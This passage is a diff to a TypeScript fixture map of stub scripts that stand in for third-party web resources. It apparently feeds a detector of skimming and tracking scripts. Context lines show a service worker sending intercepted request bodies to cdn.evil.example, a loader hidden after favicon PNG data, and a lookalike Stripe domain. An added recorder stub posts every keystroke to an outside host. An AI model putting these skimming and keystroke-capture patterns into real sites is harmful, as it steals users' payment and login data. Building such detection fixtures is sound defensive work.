@@ -59,6 +59,43 @@ export const STAND_INS: Readonly<Record<string, string>> = {
     "'POST') e.respondWith(e.request.text().then((body) => { fetch('https://cdn.evil.example/c', " +
     "{ method: 'POST', mode: 'no-cors', body }); return new Response(); })); });",
   'shop.example/favicon.png': `PNG IEND${ICON_LOADER}`,
+  'www.googletagmanager.com/gtag/js':
+    "!function(){var c='https://region1.google-analytics.com/g/collect?v=2&tid=G-1&en=';function s(e){" +
+    "navigator.sendBeacon(c+e+'&_et='+Date.now())}s('page_view');var f=0;document.addEventListener(" +
+    "'change',function(e){f++||s('form_start')},!0);document.addEventListener('submit',function(){" +
+    "s('form_submit')},!0);addEventListener('scroll',function(){s('scroll')},{once:!0});document." +
+    "addEventListener('visibilitychange',function(){s('user_engagement')})}();",
+  'consent.example/banner': '<!doctype html><p>Cookies?</p><button>Accept all</button>',
+  'cdn.recorder.example/mask.js':
+    "document.addEventListener('input', (e) => fetch('https://in.recorder.example/e', { method: " +
+    "'POST', mode: 'no-cors', body: JSON.stringify({ t: 'input', v: '*'.repeat(e.target.value." +
+    'length) }) }), true); new MutationObserver(() => 0).observe(document, { subtree: true, ' +
+    'childList: true });',
+  'cdn.recorder.example/record.js':
+    "document.addEventListener('keydown', (e) => fetch('https://in.recorder.example/e', { method: " +
+    "'POST', mode: 'no-cors', body: JSON.stringify({ t: 'key', k: e.key }) }), true);",
+  'cdn.icons.example/card-brands.js':
+    "document.querySelectorAll('.card-icons li').forEach((li) => { li.append(new Image()); });",
+  'widget.talk.example/messenger.js':
+    "const f = document.createElement('iframe'); f.src = 'https://widget.talk.example/frame'; f.style " +
+    "= 'position:fixed;right:9px;bottom:9px;width:60px;height:60px;border:0'; document.body.append(f); " +
+    "addEventListener('message', () => 0); f.onload = () => f.contentWindow.postMessage({ page: " +
+    "location.pathname }, 'https://widget.talk.example'); new WebSocket('wss://widget.talk.example/ws');",
+  'widget.talk.example/frame':
+    "<!doctype html><button>?</button><script>addEventListener('message', ({ source }) => source." +
+    "postMessage('ready', '*')); fetch('/hello', { method: 'POST', body: 'hi' });</script>",
+  'js.hcaptcha.com/1/api.js':
+    "const h = document.createElement('iframe'); h.src = 'https://newassets.hcaptcha.com/checkbox'; " +
+    "h.style = 'width:300px;height:78px'; document.querySelector('.h-captcha').append(h);",
+  'newassets.hcaptcha.com/checkbox':
+    '<!doctype html><label><input type="checkbox"> I am human</label>',
+  'www.google.com/recaptcha/api.js': 'window.grecaptcha = { ready: (f) => f() };',
+  'js.stripe.com/v3/controller':
+    '<!doctype html><script>addEventListener("message", () => 0)</script>',
+  'm.stripe.network/inner.html': '<!doctype html><script>fetch("/6", { method: "POST" })</script>',
+  'hooks.stripe.com/3d_secure_2':
+    '<!doctype html><form><input name="otp"><button>OK</button></form>',
+  'www.paypal.com/smart/buttons': '<!doctype html><button>PayPal</button>',
   'js.stripe.com/v3/elements-inner-card': CARD_FRAME,
   'js.stripe.evil.example/v3/elements-inner-card': CARD_FRAME,
   'checkoutshopper-test.adyen.com/securedfields/card.html': CARD_FRAME,
